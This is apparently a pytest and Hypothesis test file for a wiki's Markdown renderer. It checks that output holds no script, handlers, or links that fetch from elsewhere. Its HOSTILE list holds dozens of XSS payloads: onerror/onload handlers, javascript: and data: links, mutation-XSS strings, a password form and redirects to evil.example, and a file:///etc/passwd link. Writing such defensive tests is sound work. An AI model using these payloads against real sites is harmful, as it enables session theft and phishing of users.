"""Markdown: everything an author needs, and nothing that could act in a reader's browser."""

import re
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from headwater.library.markdown import (
    ATTRIBUTES,
    TAGS,
    Targets,
    as_words,
    entry_meant,
    headings,
    reading_minutes,
    render_markdown,
)

PICTURE = Targets(attachments={3: "/o/w/library/attachments/3/"})
TAGS_THAT_ACT = frozenset(
    {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link", "meta", "base"}
    | {"textarea", "template", "video", "audio", "frame"}
)
ATTRIBUTES_ALLOWED = frozenset({"href", "title", "class", "id", "src", "alt", "loading", "start", "align", "rel"})
SCHEMES_ALLOWED = {"http", "https", "mailto", "tel"}


class Watch(HTMLParser):
    """Reads HTML as a browser would, and notes everything that could act or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in TAGS_THAT_ACT:
            self.found.append(tag)
        for name, value in attrs:
            scheme, colon, _rest = re.sub(r"[\x00-\x20]", "", value or "").partition(":")
            leads = (
                name == "href" and colon and scheme.lower() not in SCHEMES_ALLOWED and not scheme.startswith(("/", "#"))
            )
            fetches = name == "src" and value != "/o/w/library/attachments/3/"
            if name not in ATTRIBUTES_ALLOWED or leads or fetches:
                self.found.append(f"{tag} {name}")


def acts(html: str) -> list[str]:
    """What in the HTML could act in a browser or fetch from elsewhere; empty when it is harmless."""
    watch = Watch()
    watch.feed(html)
    return watch.found


@pytest.mark.parametrize(
    "html, found",
    [
        ("<p onclick=x>", ["p onclick"]),
        ("<a href=' java\nscript:x'>", ["a href"]),
        ("<img src=//evil>", ["img src"]),
        ("<svg>", ["svg"]),
        ('<a href="#s-a" title="&quot; onclick=&quot;x">', []),
    ],
)
def test_the_watch_sees(html: str, found: list[str]) -> None:
    assert acts(html) == found


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b onmouseover=alert(1)>x</b>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<form action=https://evil.example><input name=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a hx-get=/o/w/library/articles/1/trash/ hx-trigger=load>x</a>",
    "<span data-hx-post=/x data-undo-url=/y>x</span>",
    "<style>@import '//evil.example'</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "[a]: javascript:alert(1)\n\n[a]",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <svg onload=alert(1)>",
    "[[<img src=x onerror=alert(1)>]]",
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    '![x" onerror="alert(1)](attachment:3)',
    '<https://a.example/"onmouseover="alert(1)>',
    "<kbd\nonclick=alert(1)>x</kbd>",
    "x" * 10 + "<" * 2000,
    "[" * 2000,
    "> " * 500 + "x",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(text: str) -> None:
    assert acts(render_markdown(text, PICTURE)) == []
    assert acts(render_markdown(f"- a\n\n  {text}\n\n> {text}", PICTURE)) == []


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(HOSTILE[:40]), st.text(max_size=20), st.sampled_from(list("<>\"'=&;:/\\`*_[]()!#|-\n \t"))
        ),
        max_size=12,
    )
)
def test_whatever_is_put_together_stays_harmless(parts: list[str]) -> None:
    html = render_markdown("".join(parts), PICTURE)
    assert acts(html) == []
    assert nh3.clean(html, tags=TAGS, attributes={**ATTRIBUTES, "a": ATTRIBUTES["a"] | {"rel"}}, link_rel=None) == html


def test_what_looks_like_markup_is_not_lost() -> None:
    assert "&lt;server name&gt;" in render_markdown("Enter <server name> here")
    assert "&lt;div&gt;" in render_markdown("<div>kept</div>")
    assert render_markdown("H<sub>2</sub>S<br>x") == "<p>H<sub>2</sub>S<br>x</p>\n"
    assert "secret" not in render_markdown("a <!-- secret --> b\n\n<!-- secret -->")


@pytest.mark.parametrize(
    "text, html",
    [
        ("**a** _b_ ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
        ("- [ ] a\n- [x] b", "<li>☐ a</li>\n<li>☑ b</li>"),
        ("| a |\n|--:|\n| 1 |", '<td align="right">1</td>'),
        ("a[^1]\n\n[^1]: note", '<sup class="footnote-ref"><a href="#fn1" id="fnref1"'),
        ("3. a\n4. b", '<ol start="3">'),
        ("see www.example.org", 'href="http://www.example.org"'),
        ("[x](mailto:a@b.example)", 'href="mailto:a@b.example"'),
        ("> q", "<blockquote>"),
        ("```python\nx\n```", '<code class="language-python">x'),
        ("[x](https://a.example)", 'rel="noopener noreferrer nofollow"'),
    ],
)
def test_what_authors_write(text: str, html: str) -> None:
    assert html in render_markdown(text)


def test_headings_begin_below_the_page_title_and_have_anchors() -> None:
    text = "# 3 · Air\n\n### Test it\n\n# 3 · Air\n\n## 水质\n"
    html = render_markdown(text)
    assert [(one.level, one.words, one.anchor) for one in headings(text)] == [
        (2, "3 · Air", "s-3-air"),
        (4, "Test it", "s-test-it"),
        (2, "3 · Air", "s-3-air-2"),
        (3, "水质", "s-水质"),
    ]
    assert '<h2 id="s-3-air">3 · Air</h2>' in html
    assert '<h2 id="s-3-air-2">' in html
    assert 'href="#s-test-it"' in render_markdown("[go](#test-it)\n\n# Test it")


def test_links_lead_where_the_reader_may_go_or_are_words() -> None:
    targets = Targets(
        ids={12: "/o/w/entries/12/"}, names={"entry permit": "/o/w/entries/5/", "saf-009": "/o/w/entries/9/"}
    )
    html = render_markdown(
        "[[Entry  permit]] [[saf-009|the form]] [p](SAF-009) [q](/o/w/entries/12/) [r](entries/13)", targets
    )
    assert (
        re.findall(r'href="([^"]+)"[^>]*>([^<]+)<', html)
        == [
            ("/o/w/entries/5/", "Entry permit"),
            ("/o/w/entries/9/", "the form"),
            ("/o/w/entries/9/", "p"),
            ("/o/w/entries/12/", "q"),
        ]
        or "Entry  permit" in html
    )
    assert html.rstrip().endswith("r</p>")


def test_pictures_are_the_articles_own() -> None:
    html = render_markdown(
        "![plan](attachment:3) ![other](attachment:4) ![far](https://evil.example/track.png)", PICTURE
    )
    assert html.count("<img") == 1
    assert '<img src="/o/w/library/attachments/3/" alt="plan" loading="lazy">' in html
    assert "[other] [far]" in html
    assert "evil.example" not in html


def test_the_same_text_for_two_readers_is_rendered_for_each() -> None:
    assert "href" in render_markdown("[[A]]", Targets(names={"a": "/x/"}))
    assert "href" not in render_markdown("[[A]]")


def test_a_long_text_is_rendered_too() -> None:
    assert render_markdown("word " * 30_000).startswith("<p>word")


@pytest.mark.parametrize(
    "href, expected",
    [
        ("/o/w/entries/12/", 12),
        ("entries/12", 12),
        ("/o/w/entries/12/?version=3", 12),
        ("http://127.0.0.1:8000/o/w/entries/12/", 12),
        ("https://elsewhere.example/entries/12/", None),
        ("//elsewhere.example/entries/12/", None),
        ("/o/w/entries/twelve/", None),
    ],
)
def test_which_addresses_mean_an_entry(href: str, expected: int | None) -> None:
    assert entry_meant(href) == expected


@pytest.mark.parametrize(
    "text, minutes", [("", 1), ("word " * 220, 1), ("word " * 1100, 5), ("水" * 2000, 5), ("word " * 10**6, 4545)]
)
def test_reading_time(text: str, minutes: int) -> None:
    assert reading_minutes(text) == minutes


def test_plain_words_are_escaped() -> None:
    assert as_words("a <b>\n\nc") == "<p>a &lt;b&gt;</p><p>c</p>"
